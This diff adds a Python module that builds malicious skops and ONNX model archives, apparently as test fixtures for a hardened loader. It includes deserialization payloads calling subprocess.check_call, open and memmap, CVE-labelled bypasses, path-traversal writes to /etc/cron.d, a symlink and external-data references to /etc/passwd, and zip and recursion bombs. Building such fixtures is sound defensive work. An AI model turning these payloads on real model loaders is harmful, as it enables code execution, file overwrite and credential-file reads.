@@ -1,0 +1,212 @@
+"""Archives of skops and ONNX models that attack who loads them: see `attacks`."""
+
+from __future__ import annotations
+
+import io
+import json
+import pickle
+import zipfile
+from typing import Any
+
+import numpy as np
+from onnx import TensorProto, helper
+
+State = dict[str, Any]
+SVC = "sklearn.svm._classes.SVC"
+
+
+def node(path: str, loader: str, **more: object) -> State:
+    module, _, name = path.rpartition(".")
+    return {"__class__": name, "__module__": module, "__loader__": loader, **more}
+
+
+def plain(value: object) -> State:
+    return node("builtins.str", "JsonNode", content=json.dumps(value))
+
+
+def listed(*items: State, kind: str = "list", path: str = "") -> State:
+    return node(path or f"builtins.{kind}", f"{kind.capitalize()}Node", content=list(items))
+
+
+def dictionary(key_types: State | None = None, **items: State) -> State:
+    types = key_types or listed(*[node("builtins.str", "TypeNode")] * len(items))
+    return node("builtins.dict", "DictNode", content=items, key_types=types)
+
+
+def model(**state: State) -> State:
+    return node(SVC, "ObjectNode", content=dictionary(**state))
+
+
+def array(file: str, path: str = "numpy.ndarray") -> State:
+    return node(path, "NdArrayNode", type="numpy", file=file)
+
+
+def saved(values: object, *, allow_pickle: bool = False) -> bytes:
+    file = io.BytesIO()
+    np.save(file, np.asarray(values), allow_pickle=allow_pickle)
+    return file.getvalue()
+
+
+def archive(schema: State, *members: tuple[str | zipfile.ZipInfo, bytes], size: int | None = None) -> bytes:
+    """A zip with a schema; `size` is what it says of the size of the last member."""
+    file = io.BytesIO()
+    with zipfile.ZipFile(file, "w") as made:
+        made.writestr("schema.json", json.dumps({"protocol": 2, "_skops_version": "0.16.0", **schema}))
+        for member, data in members:
+            made.writestr(member, data)
+        if size is not None:
+            made.filelist[-1].file_size = size
+    return file.getvalue()
+
+
+def link(name: str) -> zipfile.ZipInfo:
+    member = zipfile.ZipInfo(name)
+    member.external_attr = 0o120777 << 16
+    return member
+
+
+def running(canary: str) -> dict[str, bytes]:
+    """These write the canary if all that skops lists is trusted, as its documentation shows it."""
+    touch = [plain("touch"), plain(canary)]
+    opened = listed(plain(canary), plain("w"), kind="tuple")
+    words = saved(np.array(["touch", canary]))
+    by_key = {"content": {canary: plain(1)}, "key_types": listed(node("posix.mkdir", "TypeNode"))}
+    called = listed(node("builtins.open", "FunctionNode"), *opened["content"], kind="tuple")
+    mapped = listed(
+        *(plain(value) for value in (canary, "uint8", "w+", 0, 1)),
+        kind="tuple",
+    )
+    return {
+        "constructor": archive(model(a=node("builtins.open", "ConstructorFromReduceNode", content=opened))),
+        "class of a list": archive(model(a=listed(*touch, path="subprocess.check_call"))),
+        "class of an array": archive(model(a=array("0.npy", "subprocess.check_call")), ("0.npy", words)),
+        "loss": archive(
+            model(a=node("builtins.open", "LossNode", content=dictionary(), __reduce__={"args": opened}))
+        ),
+        "type of keys": archive(model(a=node("builtins.dict", "DictNode", **by_key))),
+        "operator": archive(model(a=node("operator.call", "OperatorFuncNode", attrs=called))),
+        "file as an array": archive(
+            model(a=node("numpy.memmap", "ConstructorFromReduceNode", content=mapped))
+        ),
+    }
+
+
+def tricks(_: str) -> dict[str, bytes]:
+    """Nothing is run, as skops is now: these were ways past it, or go wrong with known names alone."""
+    owner = node(SVC, "ObjectNode")
+    pickled = pickle.dumps([1])
+    logs = listed(node("numpy.log1p", "FunctionNode"), kind="list")
+    strings = listed(node("builtins.str", "TypeNode"), kind="list")
+    generator = {"bit_generator": plain("seed")}
+    bomb: State = {**plain(1), "__id__": 1}
+    for number in range(1, 40):
+        again = node(SVC, "CachedNode", __id__=number)
+        bomb = {**listed(bomb, again, again), "__id__": number + 1}
+    holder = {**listed({**listed(), "__id__": 1}), "__id__": 1}
+    objects = saved(np.array([{}], dtype=object), allow_pickle=True)
+    table = io.BytesIO()
+    with zipfile.ZipFile(table, "w") as made:
+        made.writestr("data.npy", objects)
+    sparse = node("scipy.sparse._csr.csr_matrix", "SparseMatrixNode", type="scipy", file="0.npz")
+    found: dict[str, State] = {
+        "operator of another name (CVE-2025-54412)": node(
+            f"{SVC.rpartition('.')[0]}.call", "OperatorFuncNode", attrs=listed(kind="tuple")
+        ),
+        "method of another object (CVE-2025-54413)": node(
+            f"{SVC.rpartition('.')[0]}.LinearSVC", "MethodNode", content={"func": "fit", "obj": owner}
+        ),
+        "method of the machinery": node(
+            SVC, "MethodNode", content={"func": "__init_subclass__", "obj": owner}
+        ),
+        "reach through a class": node(
+            "builtins.getattr",
+            "ConstructorFromReduceNode",
+            content=listed(node(SVC, "TypeNode"), plain("fit"), kind="tuple"),
+        ),
+        "function kept for later": node("builtins.eval", "FunctionNode"),
+        "old function": {**node("numpy.log1p", "FunctionNode"), "__module__": "os", "__class__": "system"},
+        "types of keys under the number of others": listed(
+            {**logs, "__id__": 5}, dictionary({**strings, "__id__": 5}, a=plain(1))
+        ),
+        "class that is only made": node(SVC, "ConstructorFromReduceNode", content=listed(kind="tuple")),
+        "function made": node("numpy.log1p", "ObjectNode"),
+        "class of a tree": node(
+            SVC, "TreeNode", content=dictionary(), __reduce__={"args": listed(kind="tuple")}
+        ),
+        "special attribute": model(__class__=plain(1)),
+        "special attribute in plain text": node(
+            SVC, "ObjectNode", content=plain({"__array_interface__": {}})
+        ),
+        "special attribute in pairs": node(
+            SVC, "ObjectNode", content=listed(listed(plain("__class__"), plain(1)), kind="tuple")
+        ),
+        "attributes in a list": node(SVC, "ObjectNode", content=listed(plain("a"))),
+        "table of pandas": node("pandas.core.frame.DataFrame", "ObjectNode", content=dictionary()),
+        "generator that is none": node(
+            "numpy.random._generator.Generator",
+            "RandomGeneratorNode",
+            content={"bit_generator": dictionary(**generator), "seed_seq": dictionary()},
+        ),
+        "unknown loader": node(SVC, "ShellNode", content=[]),
+        "object that holds itself": holder,
+        "objects without end": bomb,
+        "nothing of an earlier object": node(SVC, "CachedNode", __id__=9),
+    }
+    made_of = {name: archive(model(a=state)) for name, state in found.items()}
+    deep = plain(1)
+    for _depth in range(200):
+        deep = listed(deep)
+    safe = model(a=array("0.npy"))
+    return made_of | {
+        "objects in objects": archive(model(a=deep)),
+        "array of pickles": archive(safe, ("0.npy", objects)),
+        "pickle for an array": archive(safe, ("0.npy", pickled)),
+        "table of pickles": archive(model(a=sparse), ("0.npz", table.getvalue())),
+        "zip for an array": archive(safe, ("0.npy", table.getvalue())),
+        "file elsewhere": archive(model(), ("../../etc/cron.d/x", b"")),
+        "file at the root": archive(model(), ("/etc/cron.d/x", b"")),
+        "link": archive(model(), (link("x"), b"/etc/passwd")),
+        "zip bomb": archive(model(a=array("0.npy")), ("0.npy", saved([1])), size=2**40),
+        "no protocol": archive({**model(), "protocol": None}),
+        "text for a protocol": archive({**model(), "protocol": "0"}),
+        "newer protocol": archive({**model(), "protocol": 99}),
+    }
+
+
+def graphs(_: str) -> dict[str, bytes]:
+    """ONNX models that reach outside of their file."""
+    elsewhere = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2])
+    elsewhere.data_location = TensorProto.EXTERNAL
+    elsewhere.external_data.add(key="location", value="../../../etc/passwd")
+    foreign = helper.make_node(
+        "EPContext", ["X"], ["Y"], domain="com.microsoft", ep_cache_context="/etc/passwd"
+    )
+    add = helper.make_node("Add", ["X", "w"], ["Y"])
+    constant = helper.make_node("Constant", [], ["w"], value=elsewhere)
+    branch = helper.make_graph([foreign], "branch", [], [])
+    choice = helper.make_node("If", ["X"], ["Y"], then_branch=branch, else_branch=branch)
+    function = helper.make_function("", "Mine", ["X"], ["Y"], [foreign], [helper.make_opsetid("", 18)])
+    mine = helper.make_node("Mine", ["X"], ["Y"])
+    good = _graph(helper.make_node("Neg", ["X"], ["Y"]))
+    return {
+        "numbers of another file": _graph(add, initializers=[elsewhere]),
+        "constant of another file": _graph(constant, add),
+        "operator from elsewhere": _graph(foreign),
+        "operator from elsewhere in a branch": _graph(choice),
+        "operator from elsewhere in a function": _graph(mine, functions=[function]),
+        "cut short": good[:-20],
+    }
+
+
+def _graph(*nodes: Any, initializers: Any = (), functions: Any = ()) -> bytes:
+    shape = [None, 2]
+    made = helper.make_graph(
+        list(nodes),
+        "model",
+        [helper.make_tensor_value_info("X", TensorProto.FLOAT, shape)],
+        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, shape)],
+        list(initializers),
+    )
+    whole = helper.make_model(made, functions=list(functions), opset_imports=[helper.make_opsetid("", 18)])
+    data: bytes = whole.SerializeToString()
+    return data
